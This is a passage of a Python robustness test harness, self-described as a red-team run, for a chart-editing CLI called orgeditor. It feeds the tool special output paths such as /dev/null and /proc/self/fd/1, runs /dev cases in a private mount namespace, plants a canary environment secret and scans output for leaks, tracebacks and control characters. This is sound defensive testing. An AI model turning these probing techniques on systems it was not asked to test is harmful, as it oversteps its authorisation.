    p.write_bytes(old)
    add("target-import-existing-fail", "targets", ["import", "csv/dup-ids.csv", "-o", str(p)], "export", str(p), "existing", "yaml")
    p = t / "backup-is-dir.yaml"
    p.write_bytes(old)
    (t / "backup-is-dir.yaml~").mkdir()
    add("target-import-backup-is-dir", "targets", ["import", "csv/ok.csv", "-o", str(p)], "export", str(p), "existing", "yaml")
    # real /dev/null and /dev/stdout, inside a private mount namespace with its own /dev
    for fmt in ("svg", "png", "pptx", "yaml", "csv"):
        add(f"target-devnull-{fmt}", "targets", ["export", small, "--format", fmt, "-o", "/dev/null"], "export", "/dev/null", "nsdev", fmt)
    add("target-devnull-import", "targets", ["import", "csv/ok.csv", "-o", "/dev/null"], "export", "/dev/null", "nsdev", "yaml")
    add("target-devstdout-yaml", "targets", ["export", small, "--format", "yaml", "-o", "/dev/stdout"], "export", "/dev/stdout", "nsdev-noreplace", "yaml")
    # odd output names
    add("target-nonexistent-folder", "targets", ["export", small, "-o", str(t / "no" / "such" / "x.svg")], "export", str(t / "no" / "such" / "x.svg"), "fresh", "svg")
    add("target-name-too-long", "targets", ["export", small, "-o", str(t / ("n" * 300 + ".svg"))], "export")
    add("target-empty-name", "targets", ["export", small, "--format", "svg", "-o", ""], "export")
    add("target-dot", "targets", ["export", small, "--format", "svg", "-o", str(t) + "/."], "export", str(t), "special", "svg")
    add("target-trailing-slash", "targets", ["export", small, "-o", str(t / "folder.svg") + "/"], "export", str(t / "folder.svg"), "special", "svg")
    add("target-own-input", "targets", ["export", "examples/small-copy.yaml", "-o", "examples/small-copy.yaml"], "export", str(CORPUS / "examples/small-copy.yaml"), "existing", "yaml")
    w("examples/small-copy.yaml", (CORPUS / small).read_text())
    add("target-proc-fd", "targets", ["export", small, "--format", "yaml", "-o", "/proc/self/fd/1"], "export")


# =============================================================================== running


class Stream:
    """Drain a pipe: keep the head, the size, and the first line of each judged pattern."""

    def __init__(self, pipe) -> None:
        self.pipe = pipe
        self.head = bytearray()
        self.total = 0
        self.found: dict[str, bytes] = {}
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _line_at(self, buf: bytes, pos: int) -> bytes:
        start = buf.rfind(b"\n", 0, pos) + 1
        end = buf.find(b"\n", pos)
        end = len(buf) if end < 0 else end
        if end - start > 300:
            start, end = max(start, pos - 120), min(end, pos + 120)
        return buf[start:end]

    def _run(self) -> None:
        carry = b""
        while True:
            chunk = self.pipe.read(1 << 16)
            if not chunk:
                break
            if len(self.head) < 1 << 20:
                self.head += chunk[: (1 << 20) - len(self.head)]
            self.total += len(chunk)
            buf = carry + chunk
            for tag, rx in (("TRACEBACK", TB_RE), ("LEAK", LEAK_RE), ("CTRL", CTRL_RE)):
                if tag not in self.found:
                    m = rx.search(buf)
                    if m:
                        self.found[tag] = self._line_at(buf, m.start())
            carry = buf[-400:]


def parse_time(path: Path) -> tuple[float, int | None]:
    try:
        text = path.read_text(errors="replace")
    except OSError:
        return 0.0, None
    m = re.search(r"Maximum resident set size \(kbytes\): (\d+)", text)
    peak = int(m.group(1)) / 1024 if m else 0.0
    sig = re.search(r"Command terminated by signal (\d+)", text)
    code = re.search(r"Exit status: (\d+)", text)
    if sig:
        return peak, -int(sig.group(1))
    return peak, int(code.group(1)) if code else None


def group_hwm_mb(pgid: int) -> float:
    """Largest VmHWM (peak RSS) among the live processes of process group *pgid*."""
    best = 0.0
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/stat", "rb") as fh:
                fields = fh.read().rsplit(b")", 1)[1].split()
            if int(fields[2]) != pgid:
                continue
            with open(f"/proc/{entry.name}/status", "rb") as fh:
                m = re.search(rb"VmHWM:\s+(\d+) kB", fh.read())
            if m:
                best = max(best, int(m.group(1)) / 1024)
        except (OSError, IndexError, ValueError):
            continue
    return best


def snapshot(path: str) -> tuple:
    try:
        st = os.lstat(path)
    except FileNotFoundError:
        return ("absent",)
    except OSError as exc:
        return ("error", exc.errno)
    if stat.S_ISLNK(st.st_mode):
        target = os.readlink(path)
        real = os.path.realpath(path)
        inner = snapshot(real) if os.path.exists(real) and real != path else ("absent",)
        return ("symlink", target, inner)
    if stat.S_ISREG(st.st_mode):
        h = hashlib.sha256()
        with open(path, "rb") as fh:
            for chunk in iter(lambda: fh.read(1 << 20), b""):
                h.update(chunk)
        return ("file", h.hexdigest(), st.st_size)
    if stat.S_ISDIR(st.st_mode):
        return ("dir", tuple(sorted(x for x in os.listdir(path) if not x.startswith("."))))
    if stat.S_ISFIFO(st.st_mode):
        return ("fifo", st.st_ino)
    if stat.S_ISCHR(st.st_mode):
        return ("chardev", st.st_rdev, st.st_ino)
    return ("other", st.st_mode)


def output_problem(path: str, fmt: str) -> str | None:
    """None when *path* holds a complete file of *fmt*, else what is wrong."""
    p = Path(path)
    if not p.is_file():
        return "no output file"
    data = p.read_bytes()
    if not data:
        return "empty output file"
    try:
        if fmt == "svg":
            ElementTree.fromstring(data)
            if b"<svg" not in data[:4096]:
                return "not an SVG"
        elif fmt == "pdf":
            if not data.startswith(b"%PDF") or b"%%EOF" not in data[-1024:]:
                return "not a complete PDF"
        elif fmt == "png":
            if not data.startswith(b"\x89PNG\r\n\x1a\n") or b"IEND" not in data[-16:]:
                return "not a complete PNG"
        elif fmt == "pptx":
            with zipfile.ZipFile(p) as z:
                if z.testzip() is not None or "ppt/presentation.xml" not in z.namelist():
                    return "broken PPTX zip"
        elif fmt == "yaml":
            if not data.startswith(b"orgchart:"):
                return f"not a chart: {data[:40]!r}"
        elif fmt == "csv":
            if not data.startswith(b"id,"):
                return f"not the CSV header: {data[:40]!r}"
        elif fmt == "dot":
            if b"digraph" not in data[:2000]:
                return "not a DOT graph"
        elif fmt == "graphml":
            ElementTree.fromstring(data)
    except (ElementTree.ParseError, zipfile.BadZipFile, OSError) as exc:
        return f"invalid {fmt}: {exc}"
    return None


NS_SCRIPT = (
    "mount -t tmpfs tmpfs /dev || exit 97; "
    "mknod -m 666 /dev/null c 1 3; mknod -m 666 /dev/zero c 1 5; mknod -m 666 /dev/random c 1 8; "
    "mknod -m 666 /dev/urandom c 1 9; mkdir -p /dev/shm /dev/pts; ln -s /proc/self/fd /dev/fd; "
    "ln -s /proc/self/fd/0 /dev/stdin; ln -s /proc/self/fd/1 /dev/stdout; ln -s /proc/self/fd/2 /dev/stderr; "
    'state="$1"; target="$2"; shift 2; '
    'describe() { if [ -L "$target" ]; then echo "symlink -> $(readlink "$target")"; '
    'elif [ -c "$target" ]; then echo "char device $(stat -c %t:%T "$target")"; '
    'elif [ -f "$target" ]; then echo "regular file, $(stat -c %s "$target") bytes"; '
    'elif [ -e "$target" ]; then echo other; else echo absent; fi; }; '
    'describe > "$state.before"; "$@"; rc=$?; describe > "$state"; exit $rc'
)


def child_env() -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("QT_", "PYTHON"))}
    env.update(HOME=str(HOME), XDG_RUNTIME_DIR=str(HOME / "run"), QT_QPA_PLATFORM="offscreen",
               LANG="C.UTF-8", LC_ALL="C.UTF-8", CANARY_ENV_SECRET=ENV_TOKEN)
    return env


def run_case(case: Case) -> Result:
    res = Result(case)
    tfile = ROOT / "logs" / "time.txt"
    tfile.unlink(missing_ok=True)
    wrapper: list[str] = []
    state = None
    if case.target_mode.startswith("nsdev"):
        state = ROOT / "logs" / f"ns-state-{case.name}"
        wrapper = ["unshare", "-m", "--propagation", "private", "sh", "-c", NS_SCRIPT, "sh", str(state), case.target]
    cmd = (["nice", "-n", "10", "/usr/bin/time", "-v", "-o", str(tfile)] + wrapper +
           ["prlimit", f"--as={AS_LIMIT}", ORG] + case.args)
    pre = snapshot(case.target) if case.target and not case.target_mode.startswith("nsdev") else None
    folder_tmp_before = set()
    if case.target and case.target_mode in ("fresh", "existing"):
        folder = Path(case.target).parent
        folder_tmp_before = set(folder.glob(".*.tmp")) if folder.is_dir() else set()
    start = time.monotonic()
    proc = subprocess.Popen(cmd, cwd=CORPUS, env=child_env(), stdin=subprocess.DEVNULL,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    out, err = Stream(proc.stdout), Stream(proc.stderr)
    timed_out = False
    hwm = 0.0
    while proc.poll() is None:
        hwm = max(hwm, group_hwm_mb(proc.pid))
        if time.monotonic() - start > TIMEOUT:
            timed_out = True
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
            break
        time.sleep(0.2)
    res.seconds = time.monotonic() - start
    out.thread.join(10)
    err.thread.join(10)
    peak, code = parse_time(tfile)
    res.peak_mb = max(peak, hwm)
    res.exit = code if code is not None else proc.returncode
    res.out_head, res.err_head = bytes(out.head), bytes(err.head)
    res.out_bytes, res.err_bytes = out.total, err.total
    tags = res.tags
    if wrapper and res.exit == 97:
        res.skipped = "cannot mount a private /dev"
        return res
    err_text = res.err_head.decode("utf-8", "replace")
    first_err = next((ln for ln in err_text.splitlines() if ln.strip()), "")

    for tag in ("TRACEBACK", "LEAK", "CTRL"):
        line = err.found.get(tag) or out.found.get(tag)
        if line is not None:
            if tag == "TRACEBACK":
                tail = [ln for ln in err_text.splitlines() if ln.strip()]
                exc_line = next((ln for ln in reversed(tail) if re.match(r"^[A-Za-z_.]+(Error|Exception|Interrupt|Exit)\b", ln)), tail[-1] if tail else "")
                where = [ln.strip() for ln in tail if ln.strip().startswith("File ")]
                loc = where[-1].replace(str(Path(ORG).parents[2]) + "/", "") if where else ""
                tags[tag] = f"{exc_line} @ {loc}"
            else:
                tags[tag] = repr(line.decode("utf-8", "backslashreplace"))[:220]
    if timed_out:
        tags["TIMEOUT"] = f"killed after {TIMEOUT:.0f} s; stdout {out.total:,} B so far; stderr {first_err[:120]!r}"
    elif res.exit not in (0, 1, 2):
        tags["EXIT"] = f"exit {res.exit}; stderr {first_err[:160]!r}"
    if not timed_out and res.seconds > TIMEOUT:
        tags["SLOW"] = f"{res.seconds:.1f} s"
    if res.peak_mb > MEM_LIMIT_MB:
        tags["MEM"] = f"peak RSS {res.peak_mb:.0f} MB"
    if out.total > 100 * 1024 * 1024:
        tags["BIGOUT"] = f"stdout {out.total / 1048576:,.0f} MB"

    located = bool(LOCATED_RE.search(err_text))
    if not timed_out and res.exit in (0, 1, 2):
        if case.expect == "bad":
            if res.exit != 2 or not located:
                tags["UNLOCATED"] = f"exit {res.exit}; stderr {first_err[:200]!r}" + ("" if first_err else f"; stdout {res.out_head[:120]!r}")
        elif case.expect == "either":
            if res.exit == 2 and not located:
                tags["UNLOCATED"] = f"exit 2 without a located error: {first_err[:200]!r}"
        elif case.expect == "valid":
            if res.exit == 2:
                tags["REFUSED"] = repr(first_err[:200])
        elif case.expect == "export":
            if res.exit == 1:
                tags["EXIT"] = f"export exit 1 (contract: 0 or 2): {first_err[:160]!r}"

    # write destinations
    if case.target and not timed_out:
        mode = case.target_mode
        if mode.startswith("nsdev"):
            before = Path(str(state) + ".before").read_text().strip() if Path(str(state) + ".before").exists() else "?"
            after = state.read_text().strip() if state and state.exists() else "?"
            if after != before:
                tags["TARGET"] = f"{case.target} was '{before}', now '{after}' (exit {res.exit})"
            elif mode == "nsdev" and res.exit != 2:
                tags["TARGET"] = f"{case.target} not refused: exit {res.exit}"
        else:
            post = snapshot(case.target)
            if mode == "special":
                if post != pre:
                    tags["TARGET"] = f"changed: {pre[:2]} -> {post[:2]} (exit {res.exit})"
                elif res.exit != 2:
                    tags["TARGET"] = f"not refused: exit {res.exit}, target left as it was"
            elif mode == "existing":
                if res.exit == 0:
                    prob = output_problem(case.target, case.fmt)
                    if prob:
                        tags["TARGET"] = f"exit 0 but {prob}"
                elif post != pre:
                    tags["TARGET"] = f"failed (exit {res.exit}) and changed the existing file: {pre[:1]} -> {post[:1]}"
            elif mode == "fresh":
                if res.exit == 0:
                    prob = output_problem(case.target, case.fmt)
                    if prob:
                        tags["TARGET"] = f"exit 0 but {prob}"
                elif post[0] != "absent":
                    tags["LITTER"] = f"exit {res.exit} but left {case.target} ({post[0]})"
        if mode in ("fresh", "existing"):
            folder = Path(case.target).parent
            if folder.is_dir():
                new_tmp = set(folder.glob(".*.tmp")) - folder_tmp_before
                if new_tmp:
                    tags["LITTER"] = f"temporary files left: {sorted(p.name for p in new_tmp)[:3]}"
        # YAML outputs must load again
        if res.exit == 0 and case.fmt == "yaml" and mode in ("fresh", "existing") and Path(case.target).is_file():
            chk = subprocess.run(["nice", "-n", "10", "prlimit", f"--as={AS_LIMIT}", ORG, "check", case.target],
                                 cwd=CORPUS, env=child_env(), stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
            if chk.returncode not in (0, 1):
                line = next((ln for ln in chk.stderr.decode(errors="replace").splitlines() if ln.strip()), "")
                tags["ROUNDTRIP"] = f"written chart does not load (exit {chk.returncode}): {line[:200]!r}"
    if case.post and not timed_out:
        for tag, detail in case.post(res):
            tags[tag] = detail
    return res


# =============================================================================== report


def printable_cmd(args: list[str]) -> str:
    parts = []
    for a in args:
        a = a.replace(str(OUT) + "/", "out/")
        r = repr(a)[1:-1] if any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F or c in "\u202e\u2066\u2069\u202c" for c in a) else a
        if len(r) > 50:
            r = r[:30] + "…" + r[-12:]
        parts.append(r)
    return " ".join(parts)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--only", action="append", default=[], help="run cases whose name contains this (repeatable)")
    ap.add_argument("--kind", action="append", default=[], help="run cases of this kind (repeatable)")
    ap.add_argument("--quick", action="store_true", help="skip heavy (multi-megabyte) cases")
    ap.add_argument("--list", action="store_true", help="list cases and exit")
    ap.add_argument("--no-generate", action="store_true", help="reuse the corpus on disk")
    ap.add_argument("--json", default=str(ROOT / "results.json"), help="where to write the results (JSON)")
    opts = ap.parse_args()

    if not Path(ORG).exists():
        print(f"orgeditor not found at {ORG}", file=sys.stderr)
        return 2
    t0 = time.monotonic()
    if not opts.no_generate:
        for d in (CORPUS, OUT):
            shutil.rmtree(d, ignore_errors=True)
    for d in (CORPUS, OUT, HOME / "run", ROOT / "logs"):
        d.mkdir(parents=True, exist_ok=True)
    os.chmod(HOME / "run", 0o700)
    sec = make_secrets()
    build_paths(sec)
    build_rulebooks()
    build_numbers()
    build_yaml11()
    build_control()
    build_csv()
    build_yaml_misc()
    build_targets()
    if not opts.quick:
        build_big_csv()
        build_sizes()
    gen_seconds = time.monotonic() - t0

    cases = [c for c in CASES
             if (not opts.only or any(s in c.name for s in opts.only))
             and (not opts.kind or c.kind in opts.kind)
             and not (opts.quick and c.heavy)]
    if opts.list:
        for c in cases:
            print(f"{c.kind:9} {c.name:45} {printable_cmd(c.args)}")
        print(f"{len(cases)} cases")
        return 0

    commit = subprocess.run(["git", "-C", str(Path(ORG).parents[2]), "log", "-1", "--format=%h %s"],
                            capture_output=True, text=True).stdout.strip()
    print(f"orgeditor red-team run  {time.strftime('%Y-%m-%d %H:%M:%S')}  target {ORG}  (HEAD {commit}; working tree may differ)")
    print(f"corpus generated in {gen_seconds:.1f} s: {len(cases)} cases; limits: {TIMEOUT:.0f} s, {MEM_LIMIT_MB:.0f} MB RSS, "
          f"address space {AS_LIMIT / 1e9:.0f} GB\n")
    hdr = f"{'case':46} {'command':62} {'exit':>5} {'sec':>6} {'MB':>6}  verdict"
    print(hdr)
    print("-" * len(hdr))
    results: list[Result] = []
    for c in cases:
        r = run_case(c)
        results.append(r)
        fails = [t for t in FAIL_TAGS if t in r.tags]
        extras = [t for t in EXTRA_TAGS if t in r.tags]
        verdict = "SKIP " + r.skipped if r.skipped else ("FAIL " + ",".join(fails) if fails else "pass")
        if extras and not r.skipped:
            verdict += " +" + ",".join(extras)
        ex = "kill" if "TIMEOUT" in r.tags else str(r.exit)
        print(f"{c.name[:46]:46} {printable_cmd(c.args)[:62]:62} {ex:>5} {r.seconds:6.1f} {r.peak_mb:6.0f}  {verdict}", flush=True)
        for t in fails + extras:
            print(f"      {t}: {r.tags[t]}", flush=True)

    failing = [r for r in results if any(t in r.tags for t in FAIL_TAGS)]
    extra = [r for r in results if any(t in r.tags for t in EXTRA_TAGS)]
    print(f"\n{len(results)} cases, {len(failing)} failing, {len(extra)} with extra observations, "
          f"{sum(1 for r in results if r.skipped)} skipped; total {time.monotonic() - t0:.0f} s")
    by_kind: dict[str, list[str]] = {}
    for r in failing:
        by_kind.setdefault(r.case.kind, []).append(f"{r.case.name} [{','.join(t for t in FAIL_TAGS if t in r.tags)}]")
    for kind, names in by_kind.items():
        print(f"  {kind}: {len(names)} failing: " + "; ".join(names))
    Path(opts.json).write_text(json.dumps([
        {"name": r.case.name, "kind": r.case.kind, "args": r.case.args, "exit": r.exit, "seconds": round(r.seconds, 2),
         "peak_mb": round(r.peak_mb, 1), "tags": r.tags, "stdout_bytes": r.out_bytes, "stderr_bytes": r.err_bytes,
         "stderr_head": r.err_head[:2000].decode("utf-8", "backslashreplace"), "skipped": r.skipped}
        for r in results], indent=1, ensure_ascii=True))
    return 1 if failing else 0


if __name__ == "__main__":
    sys.exit(main())
